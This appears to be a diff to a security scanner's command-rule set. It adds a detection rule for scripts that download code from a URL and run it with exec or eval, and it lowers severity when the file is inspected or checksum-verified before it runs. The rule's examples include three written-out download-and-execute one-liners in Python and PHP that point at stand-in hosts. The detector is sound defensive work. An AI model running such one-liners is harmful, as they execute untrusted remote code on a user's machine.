@@ -58,6 +58,26 @@ export const DOWNLOAD_EXEC_RULES: CommandRule[] = [
     },
   },
   {
+    id: 'commands.download-exec.code-eval',
+    family: 'download-exec',
+    severity: 'critical',
+    score: 0.88,
+    attack: 'T1105',
+    description: 'Script code reads code from a URL and runs it with exec/eval (T1105 + T1059)',
+    examples: {
+      tp: [
+        'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://203.0.113.8/s.py\').read())"',
+        "```python\nimport requests\nsrc = requests.get('http://stage.example-cdn.net/p.py').text\nexec(src)\n```",
+        'php -r \'eval(file_get_contents("http://198.51.100.3/x.txt"));\'',
+      ],
+      fp: [
+        "```python\nimport requests\ndata = requests.get('https://api.example.com/v1/items').json()\nprint(eval('1 + 2'))\n```",
+        'python3 -c "import urllib.request as u; print(u.urlopen(\'https://example.com\').status)"',
+        'The exec() builtin runs code; urlopen() only fetches it.',
+      ],
+    },
+  },
+  {
     id: 'commands.download-exec.powershell-cradle',
     family: 'download-exec',
     severity: 'critical',
@@ -196,6 +216,11 @@ function savedThenRun(c: Cmd, env: Env): void {
     }
     return;
   }
+  const how = inspection(c);
+  if (how) {
+    for (const file of operands(c)) env.inspectDownload(env.expand(file), c.start, how);
+    return;
+  }
   if (c.name === 'chmod' || c.name === 'tar' || c.name === 'unzip' || c.name === 'cat' || c.name === 'less' || c.name === 'sha256sum') return;
   const target = executedPath(c);
   if (!target) return;
@@ -203,7 +228,24 @@ function savedThenRun(c: Cmd, env: Env): void {
   if (!saved) return;
   const exec = env.toText(c);
   const span = saved.sameChunk ? { start: Math.min(saved.span.start, exec.start), end: Math.max(saved.span.end, exec.end) } : exec;
-  env.report('commands.download-exec.saved-then-run', span, `${saved.detail}, then ${c.name || 'the shell'} executes it`, { ...downloadContext(undefined, c, undefined), absolute: true });
+  const options = { ...downloadContext(undefined, c, undefined), absolute: true };
+  if (saved.inspected) {
+    // Download, read, then run: the practice install guides recommend over `curl | sh`.
+    options.severity = 'low';
+    options.steps = [...(options.steps ?? []), { step: 'context', delta: -0.45, reason: `the file is inspected (${saved.inspected}) before it runs (-0.45)` }];
+  }
+  env.report('commands.download-exec.saved-then-run', span, `${saved.detail}, then ${c.name || 'the shell'} executes it`, options);
+}
+
+/** Pagers, editors and viewers show a file to a person; gpg --verify and sha256sum -c check it. */
+const VIEWERS = new Set(['less', 'more', 'most', 'view', 'vi', 'vim', 'nvim', 'nano', 'emacs', 'bat', 'batcat', 'code', 'gedit', 'notepad', 'type']);
+
+/** How a command inspects the files it names (its name), or undefined when it does not. */
+function inspection(c: Cmd): string | undefined {
+  if (VIEWERS.has(c.name)) return c.name;
+  if ((c.name === 'gpg' || c.name === 'gpg2') && c.lower.includes('--verify')) return 'gpg --verify';
+  if ((c.name === 'sha256sum' || c.name === 'sha512sum' || c.name === 'shasum') && (hasShort(c, 'c') || hasLong(c, '--check'))) return `${c.name} --check`;
+  return undefined;
 }
 
 export function downloadExecCommand(c: Cmd, env: Env): void {
